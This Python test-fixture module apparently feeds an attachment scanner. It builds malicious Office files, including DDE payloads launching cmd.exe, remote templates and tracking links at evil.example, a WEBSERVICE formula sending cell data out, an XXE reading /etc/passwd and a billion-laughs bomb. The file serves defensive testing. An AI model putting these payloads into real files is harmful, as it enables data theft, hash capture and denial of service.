"""Word and Excel files that run, fetch or hide something."""

from __future__ import annotations

from collections.abc import Iterator

from tests.attachments.attack import Attack
from tests.factories.files import MAIN, PARAGRAPH, docx, docx_parts, packed, relation, relations, xlsx, xlsx_parts


def _with(parts: dict[str, str | bytes], extra: dict[str, str | bytes]) -> bytes:
    return packed(parts | extra)


def word_attacks() -> Iterator[Attack]:
    """Macros, objects, fields and relations of a document."""
    word = docx_parts()
    rels = "word/_rels/document.xml.rels"
    active, outside = "active_office", "outside_office"
    yield Attack("van-ban.docx", _renamed_docm(), active, "DOCM renamed")
    yield Attack("van-ban.docx", _with(word, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), active, "macros")
    template = relations(relation("attachedTemplate", "https://evil.example/t.dotm", outside=True))
    yield Attack(
        "van-ban.docx", _with(word, {"word/_rels/settings.xml.rels": template}), active, "template from outside"
    )
    image = relations(relation("image", "http://evil.example/track.png", outside=True))
    yield Attack("van-ban.docx", _with(word, {rels: image}), outside, "a picture that tells who reads")
    share = relations(relation("image", r"\\evil.example\share\a.png"))
    yield Attack("van-ban.docx", _with(word, {rels: share}), outside, "a share that takes the password's hash")
    script = relations(relation("hyperlink", "javascript:alert(1)", outside=True))
    yield Attack("van-ban.docx", _with(word, {rels: script}), outside, "a link that is a script")
    yield Attack(
        "van-ban.docx", _with(word, {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}), active, "OLE object"
    )
    yield Attack("van-ban.docx", _with(word, {"word/activeX/activeX1.xml": "<a/>"}), active, "ActiveX")
    chunk = relations(relation("aFChunk", "/word/part.xml"))
    yield Attack(
        "van-ban.docx", _with(word, {rels: chunk, "word/part.xml": "<html/>"}), active, "HTML taken in as a part"
    )
    begin = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    pieces = "".join(
        f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in ("DD", 'EAUTO c:\\cmd.exe "/k calc"')
    )
    field = f"<w:p>{begin.format('begin')}{pieces}{begin.format('end')}</w:p>"
    yield Attack("van-ban.docx", docx(body=field), active, "DDE in pieces")


def _renamed_docm() -> bytes:
    parts = docx_parts()
    honest = MAIN + "wordprocessingml.document.main+xml"
    macros = parts["[Content_Types].xml"].replace(honest, "application/vnd.ms-word.document.macroEnabled.main+xml")
    return _with(parts, {"[Content_Types].xml": macros, "word/vbaProject.bin": "x"})


def excel_attacks() -> Iterator[Attack]:
    """Formulas and links of a workbook that fetch or run something."""
    excel, active = xlsx_parts(), "active_office"
    yield Attack("bang.xlsx", xlsx(cells="<c r=\"A1\"><f>cmd|'/c calc'!A0</f></c>"), active, "DDE in a formula")
    yield Attack(
        "bang.xlsx",
        xlsx(cells='<c r="A1"><f>WEBSERVICE("http://e.example/"&amp;A2)</f></c>'),
        active,
        "figures sent away",
    )
    yield Attack(
        "bang.xlsx", _with(excel, {"xl/externalLinks/externalLink1.xml": "<a/>"}), active, "link to a workbook"
    )
    yield Attack("bang.xlsx", _with(excel, {"xl/connections.xml": "<connections/>"}), active, "data connection")
    yield Attack("bang.xlsx", _with(excel, {"xl/macrosheets/sheet1.xml": "<a/>"}), active, "Excel 4 macros")


def xml_attacks() -> Iterator[Attack]:
    """Entities, depth, and what is none of our business to keep."""
    word, excel = docx_parts(), xlsx_parts()
    xxe = (
        '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
        + docx_parts(body=PARAGRAPH.format("&e;"))["word/document.xml"]
    )
    yield Attack("van-ban.docx", _with(word, {"word/document.xml": xxe}), "entities", "XXE")
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    bomb = f'<!DOCTYPE a [<!ENTITY l0 "ha">{laughs}]><worksheet>&l9;</worksheet>'
    yield Attack("bang.xlsx", _with(excel, {"xl/worksheets/sheet1.xml": bomb}), "entities", "billion laughs")
    wide = ('<?xml version="1.0" encoding="UTF-16"?>' + bomb).encode("utf-16")
    yield Attack("bang.xlsx", _with(excel, {"xl/worksheets/sheet1.xml": wide}), "entities", "the same in UTF-16")
    deep = "<a>" * 100_000 + "</a>" * 100_000
    yield Attack("van-ban.docx", _with(word, {"word/document.xml": deep}), "too_complex", "100,000 elements deep")
    card = PARAGRAPH.format("CCCD 031085001234")
    yield Attack("van-ban.docx", docx(body=card), "personal_data", "a register of persons")
    author = ("Nguyễn Thị Hạnh".encode(),)
    yield Attack("van-ban.docx", docx(), None, "the author's name goes", author)
